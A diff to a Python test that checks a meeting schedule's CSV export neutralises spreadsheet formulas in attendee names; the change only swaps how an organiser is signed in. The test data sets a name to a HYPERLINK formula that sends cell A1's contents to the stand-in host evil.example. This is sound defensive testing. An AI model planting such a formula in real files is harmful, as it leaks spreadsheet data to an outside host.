@@ -263,7 +263,7 @@ def test_the_schedule_csv_neutralises_formulas_in_names(client, event):
                     by=ben)
     type(amina).objects.filter(pk=amina.pk).update(
         name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
-    client.force_login(UserFactory(username="organiser", is_staff=True))
+    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
     response = client.get("/cities/meetings/durban-2014/schedule.csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[1][4] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
